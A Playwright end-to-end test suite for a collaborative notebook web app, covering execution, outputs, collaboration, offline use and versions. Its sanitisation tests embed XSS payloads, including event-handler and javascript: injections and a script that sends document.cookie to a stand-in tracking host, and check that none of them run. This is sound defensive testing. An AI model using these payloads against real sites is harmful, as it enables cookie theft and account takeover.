/** Notebooks through the real relay, node and kernel: run, outputs, reload, two people, offline, kills. */
import { stat } from "node:fs/promises";
import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures.ts";
import { watchErrors } from "./viewer-page.ts";

/** Imports a notebook in the signed-in person's name, and opens it. */
async function openNotebook(page: Page, cells: readonly object[], name = "A notebook"): Promise<string> {
  const notebook = { nbformat: 4, nbformat_minor: 5, metadata: {}, cells };
  const answer = await page.request.post(
    `${new URL(page.url()).origin}/api/ipynb/import?name=${encodeURIComponent(name)}`,
    {
      data: notebook,
      headers: { origin: new URL(page.url()).origin },
    },
  );
  expect(answer.status()).toBe(201);
  const { id } = (await answer.json()) as { id: string };
  await page.goto(new URL(`/notebook/${id}`, page.url()).href);
  await expect(page.getByRole("textbox", { name: "Name of the notebook" })).toHaveValue(name);
  return id;
}

const code = (id: string, source: string) => ({
  cell_type: "code",
  id,
  metadata: {},
  execution_count: null,
  outputs: [],
  source,
});
const markdown = (id: string, source: string) => ({ cell_type: "markdown", id, metadata: {}, source });

const outputs = (page: Page, cell: string) => page.locator(`ep-cell[id="${cell}"] ep-outputs`);

test("a cell that is typed runs, and its outputs are there after a reload and in the export", async ({
  page,
  stack,
}) => {
  test.setTimeout(180_000);
  const errors = watchErrors(page);
  await page.getByRole("link", { name: "Start", exact: true }).click();
  await page.getByRole("button", { name: "New notebook" }).click();
  await expect(page).toHaveURL(/\/notebook\//);
  const id = page.url().split("/").at(-1);
  await page.getByRole("button", { name: "Code", exact: true }).click();
  await page.keyboard.type("print('hello')\n6 * 7");
  await page.keyboard.press("Shift+Enter");
  // The first run makes the Python environment.
  await expect(page.locator("ep-outputs").first()).toContainText("42", { timeout: 150_000 });
  await expect(page.locator("ep-outputs").first()).toContainText("hello");
  await page.reload();
  await expect(page.locator("ep-outputs").first()).toContainText("42");
  await expect(page.getByText("[1]")).toBeVisible();
  await expect
    .poll(async () => {
      const exported = (await (await page.request.get(`${stack.url}/api/notebooks/${id}/export`)).json()) as {
        cells: { source: string | string[]; outputs?: { output_type: string }[] }[];
      };
      return exported.cells[0]?.outputs?.map((one) => one.output_type);
    })
    .toEqual(["stream", "execute_result"]);
  expect(errors).toEqual([]);
});

test("rich outputs: tables, scripts in a frame without cookies, pictures, maths, colours, progress", async ({
  page,
}) => {
  test.setTimeout(120_000);
  const errors = watchErrors(page);
  await openNotebook(page, [
    markdown(
      "m",
      "# Title\n\n$x^2$ <script>document.title = 'hacked'</script>\n\n<img src=x onerror=\"document.title='hacked'\">",
    ),
    code(
      "c",
      [
        "import sys",
        "from IPython.display import HTML, SVG, display",
        "for i in range(4): print(f'\\r{i * 33}%', end='')",
        "print()",
        "print('\\x1b[31mred\\x1b[0m')",
        "print('oh', file=sys.stderr)",
        "display(HTML('<table><tr><td>cell</td></tr></table>'))",
        "display(HTML('<b id=x></b><script>let s; try { s = document.cookie } catch (e) { s = e.name } document.getElementById(\"x\").textContent = s</script>'))",
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>parent.document.title = 1</script></svg>\'))',
      ].join("\n"),
    ),
    code("e", "1 / 0"),
    code("after", "print('never')"),
  ]);
  await expect(page.locator("ep-cell .katex").first()).toBeVisible();
  await page.getByRole("button", { name: "Run all cells" }).click();
  const shown = outputs(page, "c");
  await expect(shown).toContainText("cell", { timeout: 60_000 });
  await expect(shown.locator("pre").first()).toHaveText(/^99%\nred\n$/);
  await expect(shown.locator(".ansi-red-fg")).toHaveText("red");
  await expect(shown.locator(".stderr")).toHaveText(/oh/);
  await expect(shown.frameLocator("iframe").locator("#x")).toHaveText("SecurityError");
  await expect(shown.getByRole("img")).toHaveCount(1);
  await expect(outputs(page, "e")).toContainText("ZeroDivisionError");
  await expect(page.locator('ep-cell[id="after"]')).toContainText("cancelled");
  expect(await page.title()).toContain("A notebook");
  expect(errors.filter((error) => !error.includes("frame-ancestors"))).toEqual([]);
});

test("a question of the code is answered in the page, and a long cell is interrupted", async ({ page }) => {
  test.setTimeout(120_000);
  await openNotebook(page, [
    code("ask", "name = input('Who? ')\nprint('Hi', name)"),
    code("long", "import time\nfor i in range(600):\n    time.sleep(0.1)"),
  ]);
  await page.getByRole("button", { name: "Run all cells" }).click();
  const field = page.getByRole("textbox", { name: "Who?" });
  await field.fill("Ada");
  await field.press("Enter");
  await expect(outputs(page, "ask")).toContainText("Hi Ada");
  await expect(page.getByRole("group", { name: "Code cell, running" })).toBeVisible();
  await page.getByRole("button", { name: "Interrupt the kernel (I I)" }).click();
  await expect(outputs(page, "long")).toContainText("KeyboardInterrupt");
});

test("what a cell prints shows while it runs, also in a page that comes later", async ({ page }) => {
  test.setTimeout(120_000);
  await openNotebook(page, [code("slow", "print('first')\ninput('Go on? ')\nprint('last')")]);
  await page.getByRole("button", { name: "Run all cells" }).click();
  const field = page.getByRole("textbox", { name: "Go on?" });
  await expect(field).toBeVisible();
  await expect(outputs(page, "slow")).toContainText("first");
  await page.reload();
  await expect(outputs(page, "slow")).toContainText("first");
  await expect(page.getByRole("group", { name: "Code cell, running" })).toBeVisible();
  await field.press("Enter");
  await expect(outputs(page, "slow")).toContainText("last");
});

test("keys of command mode: insert, move, merge, split, types, undo", async ({ page }) => {
  await openNotebook(page, [code("a", "first = 1"), code("b", "second = 2")]);
  const cells = page.locator("ep-cell");
  await page.locator('ep-cell[id="a"] .side').click();
  await page.keyboard.press("b");
  await expect(cells).toHaveCount(3);
  await page.keyboard.press("m");
  await page.keyboard.press("Enter");
  await page.keyboard.type("## A heading");
  await page.keyboard.press("Control+Enter");
  await expect(page.getByRole("heading", { name: "A heading" })).toBeVisible();
  await page.keyboard.press("Control+Shift+ArrowDown");
  await expect(cells.nth(2).getByRole("heading")).toBeVisible();
  await page.keyboard.press("d");
  await page.keyboard.press("d");
  await expect(cells).toHaveCount(2);
  await page.keyboard.press("z");
  await expect(cells).toHaveCount(3);
  await page.keyboard.press("Control+ArrowUp");
  await page.keyboard.press("Shift+ArrowDown");
  await page.keyboard.press("Shift+M");
  await expect(cells).toHaveCount(2);
  await expect(cells.first()).toContainText("second = 2");
});

test("a quick hand: keys after Escape are commands, keys after Enter are text", async ({ page }) => {
  await openNotebook(page, [code("a", "x = 1")]);
  await page.locator('ep-cell[id="a"] .cm-content').click();
  await page.keyboard.press("End");
  for (const key of ["Escape", "b", "Enter", "d", "d", "Escape", "y"]) await page.keyboard.press(key);
  await expect(page.locator("ep-cell")).toHaveCount(2);
  await expect(page.locator('ep-cell[id="a"] .cm-content')).toHaveText("x = 1");
  await expect(page.locator("ep-cell").nth(1).locator(".cm-content")).toHaveText("dd");
});

test("a Vega-Lite chart is drawn without running code of its own", async ({ page }) => {
  const errors = watchErrors(page);
  const chart = {
    data: { values: [{ x: 1, y: 2 }] },
    mark: "bar",
    encoding: { x: { field: "x" }, y: { field: "y" } },
  };
  const bundle = `{'application/vnd.vegalite.v5+json': ${JSON.stringify(chart)}, 'text/plain': 'chart'}`;
  await openNotebook(page, [code("a", `from IPython.display import display\ndisplay(${bundle}, raw=True)`)]);
  await page.getByRole("button", { name: "Run all cells" }).click();
  await expect(outputs(page, "a").locator("ep-vega-output svg.marks")).toBeVisible({ timeout: 60_000 });
  expect(errors).toEqual([]);
});

test("two people in one notebook: text and cursors, and edits without a network merge", async ({
  page,
  browser,
  stack,
}) => {
  test.setTimeout(90_000);
  await openNotebook(page, [code("a", "shared = 1"), code("b", "")]);
  const context = await browser.newContext();
  try {
    const other = await context.newPage();
    await other.goto(await stack.newOwnerLink());
    await expect(other).toHaveURL(/\/view\//);
    await other.goto(page.url());
    await expect(other.locator('ep-cell[id="a"]')).toContainText("shared = 1");
    await page.locator('ep-cell[id="a"] .cm-content').click();
    await page.keyboard.press("End");
    await page.keyboard.type(" + 1");
    await expect(other.locator('ep-cell[id="a"]')).toContainText("shared = 1 + 1");
    await expect(other.getByRole("group", { name: "Here now" })).toBeVisible();
    await context.setOffline(true);
    await other.locator('ep-cell[id="b"] .cm-content').click();
    await other.keyboard.type("offline = True");
    await page.keyboard.type(" + 2");
    await context.setOffline(false);
    await expect(page.locator('ep-cell[id="b"]')).toContainText("offline = True", { timeout: 30_000 });
    await expect(other.locator('ep-cell[id="a"]')).toContainText("shared = 1 + 1 + 2", { timeout: 30_000 });
  } finally {
    await context.close();
  }
});

test("what is said about a cell is seen by others at once, and settled", async ({ page, browser, stack }) => {
  await openNotebook(page, [code("a", "alpha = 1"), code("b", "beta = 2")]);
  const context = await browser.newContext();
  try {
    const other = await context.newPage();
    await other.goto(await stack.newOwnerLink());
    await expect(other).toHaveURL(/\/view\//);
    await other.goto(page.url());
    await page.locator('ep-cell[id="b"] .side').click();
    await page.getByRole("button", { name: "Comments" }).click();
    await page.getByRole("textbox", { name: "Comment on the selected cell" }).fill("Why two?");
    await page.getByRole("button", { name: "Comment", exact: true }).click();
    await expect(page.getByRole("complementary", { name: "Comments" })).toContainText("Why two?");
    await other.locator('ep-cell[id="b"]').getByRole("button", { name: "1 comment" }).click();
    const panel = other.getByRole("complementary", { name: "Comments" });
    await expect(panel).toContainText("Why two?");
    await expect(panel).toContainText("beta = 2");
    await panel.getByRole("button", { name: "Settle" }).click();
    await expect(page.locator('ep-cell[id="b"]').getByRole("button", { name: "1 comment" })).toHaveCount(0);
  } finally {
    await context.close();
  }
});

test("a hostile notebook runs nothing and reads nothing", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => asked.push(`dialog ${dialog.message()}`));
  const svg = Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").toString("base64");
  await openNotebook(page, [
    {
      ...markdown(
        "m",
        [
          "# Free pictures",
          "[link](javascript:alert(1)) <a href=' javascript:alert(2)'>b</a> [data](data:text/html,<script>alert(3)</script>)",
          "![evil](attachment:evil.svg) ![track](https://track.example.org/pixel.png) ![api](/api/auth/me)",
          "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe><form action='/api/auth/logout'><button>Go</button></form>",
          "<style>body { display: none }</style><math><mtext><img src=x onerror=alert(5)></mtext></math>",
          "<svg><a xlink:href='javascript:alert(6)'><text>c</text></a><script>alert(7)</script></svg>",
          "<details open ontoggle=alert(8)><summary>more</summary></details>",
        ].join("\n\n"),
      ),
      attachments: { "evil.svg": { "image/svg+xml": svg } },
    },
    {
      ...code("c", "pass"),
      execution_count: 1,
      outputs: [
        {
          output_type: "display_data",
          metadata: {},
          data: { "text/html": "<script>fetch('https://track.example.org/' + document.cookie)</script>" },
        },
        {
          output_type: "display_data",
          metadata: {},
          data: { "application/javascript": "parent.document.title = 'hacked'" },
        },
        {
          output_type: "display_data",
          metadata: {},
          data: {
            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(9)</script></svg>",
          },
        },
        {
          output_type: "display_data",
          metadata: {},
          data: { "text/html": "<b>bold</b><style>:host { position: fixed; inset: 0 }</style>" },
        },
      ],
    },
  ]);
  await expect(page.getByRole("heading", { name: "Free pictures" })).toBeVisible();
  const shown = outputs(page, "c");
  await expect(shown.getByRole("button", { name: "Show it" })).toHaveCount(2);
  await expect(shown.locator("iframe")).toHaveCount(0);
  await expect(page.locator("ep-cell iframe, ep-cell form")).toHaveCount(0);
  for (const link of await page.locator("ep-cell a").all())
    expect((await link.getAttribute("href")) ?? "").not.toMatch(/^\s*(javascript|data):/i);
  await page.waitForTimeout(500);
  expect(asked.filter((one) => /dialog|track\.example|\/api\/auth\/(me|logout)\?|evil/.test(one))).toEqual(
    [],
  );
  expect(await page.title()).toContain("A notebook");
  // Asked for, a script runs in its box, and finds no cookie there.
  await shown.getByRole("button", { name: "Show it" }).first().click();
  await expect(shown.locator("iframe")).toHaveCount(1);
  await page.waitForTimeout(500);
  expect(asked.filter((one) => one.includes("track.example.org/e"))).toEqual([]);
});

test("a flood of text leaves page and kernel quick, and all of it can be downloaded", async ({ page }) => {
  test.setTimeout(120_000);
  await openNotebook(page, [
    code(
      "flood",
      "import sys\nline = 'x' * 99 + '\\n'\nfor i in range(200): sys.stdout.write(line * 1000)\nprint('the end')",
    ),
    code("after", "print('still here')"),
  ]);
  await page.getByRole("button", { name: "Run all cells" }).click();
  await expect(outputs(page, "after")).toContainText("still here", { timeout: 90_000 });
  const all = page.getByRole("button", { name: "Download all of it" });
  const [download] = await Promise.all([page.waitForEvent("download"), all.click()]);
  const path = await download.path();
  const { size } = await stat(path);
  expect(size).toBe(200 * 1000 * 100 + "the end\n".length);
});

test("without a network the app opens and edits, says who is signed in, and merges when it is back", async ({
  page,
  context,
}) => {
  test.setTimeout(90_000);
  await openNotebook(page, [code("a", "kept = 1")], "Offline");
  await expect(page.locator('ep-cell[id="a"]')).toContainText("kept = 1");
  // The service worker keeps the app once it has the page.
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  await page.reload();
  await expect(page.locator('ep-cell[id="a"]')).toContainText("kept = 1");
  await context.setOffline(true);
  await page.reload();
  await expect(page.getByRole("textbox", { name: "Name of the notebook" })).toHaveValue("Offline");
  await expect(page.locator('ep-cell[id="a"]')).toContainText("kept = 1");
  await expect(page.getByText("Your edits are kept in this browser")).toBeVisible();
  await expect(page.getByText("Owner").first()).toBeVisible();
  await page.locator('ep-cell[id="a"] .cm-content').click();
  await page.keyboard.press("End");
  await page.keyboard.type(" + 41");
  await page.waitForTimeout(500);
  await page.reload();
  await expect(page.locator('ep-cell[id="a"]')).toContainText("kept = 1 + 41");
  const id = page.url().split("/").at(-1);
  await context.setOffline(false);
  await expect
    .poll(
      async () => {
        const answer = await page.request.get(`${new URL(page.url()).origin}/api/notebooks/${id}/export`);
        return JSON.stringify(await answer.json());
      },
      { timeout: 30_000 },
    )
    .toContain("kept = 1 + 41");
});

test("find and replace, contents and folding, variables, versions", async ({ page }) => {
  test.setTimeout(120_000);
  await openNotebook(page, [
    markdown("h1", "# First part"),
    code("a", "total = 1\nother = total + 1"),
    markdown("h2", "# Second part"),
    code("b", "print(total)"),
  ]);
  const cells = page.locator("ep-cell");
  await page.locator('ep-cell[id="a"] .side').click();
  await page.keyboard.press("Control+s");
  await expect(page.getByText("A version is kept.")).toBeVisible();
  // Find and replace.
  await page.keyboard.press("f");
  await page.getByRole("textbox", { name: "Find" }).fill("total");
  await expect(page.getByRole("search")).toContainText("of 3");
  await page.getByRole("textbox", { name: "Replace by" }).fill("amount");
  await page.getByRole("button", { name: "Replace all" }).click();
  await expect(page.locator('ep-cell[id="b"]')).toContainText("print(amount)");
  await page.getByRole("textbox", { name: "Find" }).press("Escape");
  // Contents and folding.
  await page.getByRole("button", { name: "Contents" }).click();
  const contents = page.getByRole("complementary", { name: "Contents" });
  await contents.getByRole("button", { name: "First part" }).click();
  await page.keyboard.press("ArrowLeft");
  await expect(cells).toHaveCount(3);
  await expect(page.locator('ep-cell[id="h1"]')).toContainText("1 cell folded");
  await page.keyboard.press("ArrowRight");
  await expect(cells).toHaveCount(4);
  // Variables.
  await page.getByRole("button", { name: "Run all cells" }).click();
  await expect(outputs(page, "b")).toContainText("1", { timeout: 60_000 });
  await page.getByRole("button", { name: "Variables and files" }).click();
  await expect(
    page.getByRole("complementary", { name: "Variables" }).getByRole("row", { name: /amount/ }),
  ).toContainText("int");
  // The version of before, and what changed since.
  await page.getByRole("button", { name: "More" }).click();
  await page.getByRole("button", { name: "Versions" }).click();
  const dialog = page.locator("ep-versions-dialog");
  await dialog.getByRole("listitem").first().getByRole("button").click();
  await expect(dialog.locator("pre.removed").first()).toContainText("total");
  await expect(dialog.locator("pre.added").first()).toContainText("amount");
  await dialog.getByRole("button", { name: "Restore this version" }).click();
  await expect(page.locator('ep-cell[id="b"]')).toContainText("print(total)");
});
